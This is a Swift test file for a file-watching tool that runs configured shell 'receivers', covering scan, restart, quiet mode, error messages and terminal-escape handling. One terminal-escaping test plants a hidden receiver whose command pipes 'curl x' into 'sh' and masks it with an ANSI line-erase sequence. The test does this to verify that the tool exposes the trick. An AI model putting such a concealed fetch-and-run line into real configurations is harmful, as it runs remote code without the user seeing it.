// SPDX-License-Identifier: GPL-2.0-or-later
import Foundation
import Glibc
import Testing
import TestSupport

/// What a new user meets in the first hour with receivers, driving the built binary: `scan` from cron, a
/// `touch` to force a rebuild, `on_busy = restart` under a checkout, `-q` under systemd.
@Suite("A new user's first hour with receivers", .serialized, .ownThreads(timeLimit: .seconds(120)))
struct FirstHourTests {
    private func lines(_ folder: TemporaryFolder, _ file: String) -> [String] {
        ((try? String(contentsOfFile: folder.path + "/" + file, encoding: .utf8)) ?? "").split(separator: "\n").map(String.init)
    }

    @Test("scan runs every receiver of every signal it found, waits for them, and exits 1 when one failed")
    func scanWaitsForEveryReceiver() throws {
        let folder = try TemporaryFolder.project(config: """
            [model Note]
            path = notes
            [receiver first]
            signal = post_save
            command = sleep 0.5
            [receiver second]
            signal = post_save
            command = echo "second $FILESIGNALS_INSTANCE" >> ran.txt
            [receiver third]
            signal = post_save
            command = exit 3
            """)
        let setUp = try RunningCommand(["scan"], in: folder.url).waitForExit()
        #expect(setUp.exitStatus == 0, "\(setUp.stderr)")
        try folder.shell("echo a > notes/a")
        let scan = try RunningCommand(["scan"], in: folder.url).waitForExit()
        #expect(scan.exitStatus == 1, "a receiver failed: \(scan.stderr)")
        #expect(lines(folder, "ran.txt") == ["second notes/a"])
        #expect(scan.stderr.contains { $0.contains("third: post_save notes/a: exited 3") }, "\(scan.stderr)")
        #expect(!scan.stderr.contains { $0.contains("ready") }, "scan does not watch: \(scan.stderr)")

        let again = try RunningCommand(["scan"], in: folder.url).waitForExit()
        #expect(again.exitStatus == 0, "\(again.stderr)")
        #expect(!again.stderr.contains { $0.contains("had not finished") }, "\(again.stderr)")
        #expect(lines(folder, "ran.txt") == ["second notes/a"], "nothing ran twice")
    }

    @Test("a receiver that writes into the file it was run for is run once by scan, not again by every later scan")
    func scanDoesNotLoopOnOwnWrites() throws {
        let folder = try TemporaryFolder.project(config: """
            [model Note]
            path = notes
            [receiver stamp]
            signal = post_save
            command = echo run >> ../ran.log; echo stamped >> "$FILESIGNALS_PATH"
            cwd = notes
            """)
        #expect(try RunningCommand(["scan"], in: folder.url).waitForExit().exitStatus == 0)
        try folder.shell("echo b > notes/b")
        for _ in 0..<3 {
            let scan = try RunningCommand(["scan"], in: folder.url).waitForExit()
            #expect(scan.exitStatus == 0, "\(scan.stderr)")
        }
        #expect(lines(folder, "ran.log") == ["run"], "\(lines(folder, "ran.log"))")
        #expect((try? String(contentsOfFile: folder.path + "/notes/b", encoding: .utf8)) == "b\nstamped\n")
    }

    @Test("touch, chmod and the same bytes written again each run a receiver that writes elsewhere")
    func savesTheReceiverDidNotMakeRunIt() throws {
        let folder = try TemporaryFolder.project(config: """
            [model Note]
            path = notes
            [receiver log]
            signal = post_save
            command = echo "run $FILESIGNALS_SEQ" >> ../ran.log
            cwd = notes
            when = always
            """)
        let command = try RunningCommand(["watch", "--json", "--results", "--no-state"], in: folder.url)
        try #require(command.waitUntilReady(), "\(command.snapshot.stderr)")
        let steps = ["echo hello > notes/f", "touch notes/f", "chmod 600 notes/f", "printf 'hello\\n' > notes/f"]
        for (index, step) in steps.enumerated() {
            try folder.shell(step)
            command.wait { $0.results.count >= index + 1 }
        }
        let output = command.stopCleanly()
        #expect(output.results == ["log exited", "log exited", "log exited", "log exited"], "\(output.stderr)")
        #expect(lines(folder, "ran.log").count == 4)
    }

    @Test("on_busy = restart with five saves at once: the running build is stopped and one build runs, for the newest")
    func restartLeavesOneRun() throws {
        let folder = try TemporaryFolder.project(config: """
            [model Note]
            path = notes
            [receiver build]
            signal = post_save
            command = echo "start $FILESIGNALS_INSTANCE" >> ../builds.log; sleep 0.3; echo "end $FILESIGNALS_INSTANCE" >> ../builds.log
            cwd = notes
            on_busy = restart
            """)
        let command = try RunningCommand(["watch", "--json", "--results", "--no-state"], in: folder.url)
        try #require(command.waitUntilReady(), "\(command.snapshot.stderr)")
        try folder.shell("echo 0 > notes/first")
        #expect(poll(upTo: 20) { self.lines(folder, "builds.log").count >= 1 })
        try folder.shell("for n in 1 2 3 4 5; do echo $n > notes/$n; done")
        command.wait { $0.results.count >= 6 }
        let output = command.stopCleanly()
        let ends = lines(folder, "builds.log").filter { $0.hasPrefix("end ") }
        #expect(ends.count == 1, "one build ran to its end: \(lines(folder, "builds.log"))")
        #expect(output.results.filter { $0 == "build exited" }.count == 1, "\(output.results)")
        #expect(output.results.count == 6, "each signal has one result: \(output.results)")
    }

    @Test("a save, a symbolic link and a hard link made just before SIGTERM are reported by that run, even without state",
          arguments: ["echo x > notes/late", "ln -s a notes/late", "ln notes/a notes/late"])
    func lastChangesBeforeAStop(_ change: String) throws {
        let folder = try TemporaryFolder()
        try folder.shell("mkdir notes && echo a > notes/a")
        let command = try RunningCommand.watching(folder, ["--no-state"])
        try folder.shell(change)
        let output = command.stopCleanly()
        #expect(output.summary.contains { $0.hasPrefix("post_save notes/late created:true") }, "\(output.summary)")
    }

    @Test("on_busy = restart with repeated saves of one file: each save stops the run for the one before; one run ends, for the last")
    func restartOnRepeatedSavesOfOneFile() throws {
        let folder = try TemporaryFolder.project(config: """
            [model Note]
            path = notes
            [receiver build]
            signal = post_save
            command = echo "start $(cat "$FILESIGNALS_PATH")" >> ../builds.log; sleep 1; echo "end $(cat "$FILESIGNALS_PATH")" >> ../builds.log
            cwd = notes
            on_busy = restart
            """)
        let command = try RunningCommand(["watch", "--json", "--results", "--no-state"], in: folder.url)
        try #require(command.waitUntilReady(), "\(command.snapshot.stderr)")
        // An editor saving every 150 ms, each save well inside the one-second build.
        try folder.shell("for v in 1 2 3 4 5; do echo v$v > notes/x; sleep 0.15; done")
        command.wait { $0.results.count >= 5 && $0.results.contains("build exited") }
        let output = command.stopCleanly()
        let ends = lines(folder, "builds.log").filter { $0.hasPrefix("end ") }
        #expect(ends == ["end v5"], "\(lines(folder, "builds.log"))")
        #expect(output.results.filter { $0 == "build exited" }.count == 1, "\(output.results)")
    }

    @Test("-q still prints a receiver that failed, timed out or could not start")
    func quietShowsFailures() throws {
        let folder = try TemporaryFolder.project(config: """
            [model Note]
            path = notes
            [receiver fails]
            signal = post_save
            command = exit 3
            [receiver hangs]
            signal = post_save
            command = sleep 30
            timeout = 200ms
            [receiver missing]
            signal = post_save
            exec = /nonexistent/program {path}
            """)
        let command = try RunningCommand(["watch", "-q", "--json", "--no-state"], in: folder.url)
        // -q hides "ready": a file is written again until its save shows on stdout (the watch had begun).
        for attempt in 1...40 where !command.snapshot.signals.contains(where: { $0.signal == "post_save" }) {
            try folder.shell("echo \(attempt) > notes/a")
            command.wait(upTo: .milliseconds(500)) { $0.signals.contains { $0.signal == "post_save" } }
        }
        let output = command.wait { output in output.stderr.filter { $0.contains("error:") }.count >= 3 }
        command.send(SIGTERM)
        _ = command.waitForExit()
        let errors = output.stderr.filter { $0.contains("error:") }
        #expect(errors.contains { $0.contains("fails:") && $0.contains("exited 3") }, "\(output.stderr)")
        #expect(errors.contains { $0.contains("hangs:") }, "\(output.stderr)")
        #expect(errors.contains { $0.contains("missing:") }, "\(output.stderr)")
    }
}

/// Names and values that hold control characters reach the terminal written out, never obeyed.
@Suite("Control characters on the terminal", .serialized, .ownThreads(timeLimit: .seconds(60)))
struct TerminalEscapeTests {
    static let forger = "new\nfilesignals: post_delete File important.txt"
    static let painter = "\u{1B}[2J\u{1B}[31mred"

    @Test("the human log, ls, explain and check write control characters out")
    func controlCharactersAreWrittenOut() throws {
        let folder = try TemporaryFolder()
        try folder.shell("""
            mkdir notes && cat > filesignals.ini <<'EOF'
            [model Note]
            path = notes
            [receiver show]
            signal = post_save
            command = echo built$(printf '\\033[2K\\r')  fine
            EOF
            printf '[receiver hidden]\\nsignal = post_save\\ncommand = curl x | sh; \\033[2K\\r  echo harmless\\n' >> filesignals.ini
            chmod 644 filesignals.ini
            """)
        let command = try RunningCommand(["watch", "--no-state"], in: folder.url)
        try #require(command.waitUntilReady(), "\(command.snapshot.stderr)")
        for name in [Self.forger, Self.painter] {
            try Data("x\n".utf8).write(to: folder.url.appendingPathComponent("notes/" + name))
        }
        let output = command.wait { $0.stderr.filter { $0.contains("post_save") }.count >= 2 }
        command.send(SIGTERM)
        _ = command.waitForExit()
        #expect(!output.stderr.contains { $0.hasPrefix("filesignals: post_delete") }, "a forged line: \(output.stderr)")
        #expect(!output.stderr.contains { $0.contains("\u{1B}") }, "an escape sequence reached the terminal: \(output.stderr)")
        #expect(output.stderr.contains { $0.contains("notes/new\\nfilesignals: post_delete") }, "\(output.stderr)")

        let ls = try RunningCommand(["ls"], in: folder.url).waitForExit()
        #expect(ls.stdout.count == 2 && !ls.stdout.joined().contains("\u{1B}"), "\(ls.stdout)")
        let explain = try RunningCommand(["explain", "notes/" + Self.painter], in: folder.url).waitForExit()
        #expect(!explain.stdout.joined().contains("\u{1B}") && explain.stdout.joined().contains("\\e[2J"), "\(explain.stdout)")
        let newline = try RunningCommand(["explain", "notes/" + Self.forger], in: folder.url).waitForExit()
        #expect(newline.stdout.first?.hasPrefix("notes/new\\nfilesignals: post_delete File important.txt: instance") == true, "\(newline.stdout)")
        let unknownModel = try RunningCommand(["ls", "Mo\u{1B}[2J\ndel"], in: folder.url).waitForExit()
        #expect(!unknownModel.stderr.joined().contains("\u{1B}") && unknownModel.stderr.contains { $0.contains("Mo\\e[2J\\ndel") }, "\(unknownModel.stderr)")
        let check = try RunningCommand(["check"], in: folder.url).waitForExit()
        #expect(!check.stdout.joined().contains("\u{1B}") && check.stdout.contains { $0.contains("curl x | sh; \\e[2K\\r") }, "\(check.stdout)")
    }
}

/// The smaller things a new user trips over: each message says what is wrong, and the status fits.
@Suite("Small defects of the first hour", .serialized, .ownThreads(timeLimit: .seconds(60)))
struct FirstHourMessageTests {
    @Test("a second watcher's lock message is one line with the holder's pid")
    func lockMessageIsOneLine() throws {
        let folder = try TemporaryFolder()
        let first = try RunningCommand.watching(folder, [])
        let second = try RunningCommand(["watch", folder.path, "--json"]).waitForExit()
        #expect(second.exitStatus == 75)
        #expect(second.stderr.contains { $0.contains("(pid \(first.child.pid))") }, "\(second.stderr)")
        #expect(second.stderr.count == 1, "\(second.stderr)")
        _ = first.stopCleanly()
    }

    @Test("watch of a pipe says it is neither a folder nor a file")
    func watchingAPipe() throws {
        let folder = try TemporaryFolder()
        try folder.shell("mkfifo pipe")
        let output = try RunningCommand(["watch", folder.path + "/pipe"]).waitForExit()
        #expect(output.exitStatus == 66)
        #expect(output.stderr.contains { $0.contains("it is neither a folder nor a regular file") }, "\(output.stderr)")
    }

    @Test("log without the watcher's patterns says the state is found by folders and patterns")
    func logWithoutThePatterns() throws {
        let folder = try TemporaryFolder()
        let watcher = try RunningCommand.watching(folder, ["--match", "*.md"])
        _ = watcher.stopCleanly()
        let output = try RunningCommand(["log", folder.path]).waitForExit()
        #expect(output.exitStatus == 66, "\(output.stderr)")
        #expect(output.stderr.contains { $0.contains("same folders, --match") }, "\(output.stderr)")
        let found = try RunningCommand(["log", folder.path, "--match", "*.md"]).waitForExit()
        #expect(found.exitStatus == 0, "\(found.stderr)")
    }

    @Test("an unknown signal for log, --results without --json, and a misspelt command are usage errors that say so")
    func usageErrorsSaySo() throws {
        let folder = try TemporaryFolder()
        let signal = try RunningCommand(["log", folder.path, "--signal", "post_sav"]).waitForExit()
        #expect(signal.exitStatus == 64 && signal.stderr.contains { $0.contains("did you mean `post_save`") }, "\(signal.stderr)")
        let results = try RunningCommand(["watch", folder.path, "--results"]).waitForExit()
        #expect(results.exitStatus == 64 && results.stderr.contains { $0.contains("needs --json") }, "\(results.stderr)")
        let command = try RunningCommand(["wacth", folder.path]).waitForExit()
        #expect(command.exitStatus == 64 && command.stderr.contains { $0.contains("did you mean `watch`") }, "\(command.stderr)")
        let help = try RunningCommand(["watch", "--help"]).waitForExit()
        #expect(!help.stdout.joined().contains("settle decisions"), "-v promises only what it shows")
    }

    @Test("send to a file outside every model is refused with its reason, not the usage text")
    func sendOutsideEveryModel() throws {
        let folder = try TemporaryFolder()
        try folder.shell("mkdir notes && printf '[model Note]\\npath = notes\\n[signal published]\\n' > filesignals.ini && chmod 644 filesignals.ini")
        let output = try RunningCommand(["send", "published", "elsewhere.txt"], in: folder.url).waitForExit()
        #expect(output.exitStatus == 65, "\(output.stderr)")
        #expect(output.stderr.contains { $0.contains("not an instance of any model") }, "\(output.stderr)")
        #expect(!output.stderr.contains { $0.contains("Usage:") }, "\(output.stderr)")
    }

    @Test("send shows a receiver's output as watch does: 50 lines a stream at most, the rest counted")
    func sendBoundsOutput() throws {
        let folder = try TemporaryFolder()
        try folder.shell("mkdir notes && printf '[model Note]\\npath = notes\\n[signal published]\\n[receiver chatty]\\nsignal = published\\ncommand = seq 1 100000\\n' > filesignals.ini && chmod 644 filesignals.ini")
        let output = try RunningCommand(["send", "published"], in: folder.url).waitForExit()
        #expect(output.exitStatus == 0, "\(output.stderr)")
        let shown = output.stderr.filter { $0.hasPrefix("filesignals: chatty: ") }
        #expect(shown.count <= 52, "\(shown.count) lines of output shown")
        #expect(shown.contains("filesignals: chatty: 50") && !shown.contains("filesignals: chatty: 51"))
        #expect(shown.contains { $0.contains("more lines not shown") || $0.contains("more bytes of output not kept") }, "\(shown.suffix(3))")
    }

    @Test("--initial reports files the state already knows as post_save created:false")
    func initialWithState() throws {
        let folder = try TemporaryFolder()
        try folder.shell("echo a > known.md")
        _ = try RunningCommand.watching(folder, []).stopCleanly()
        try folder.shell("echo b > new.md")
        let output = try RunningCommand.watching(folder, ["--initial"]).stopCleanly()
        let saves = output.signals.filter { $0.signal == "post_save" }.map { "\($0.instance ?? "?") \($0.created.map(String.init) ?? "?")" }
        #expect(Set(saves) == ["known.md false", "new.md true"], "\(output.summary)")
    }
}
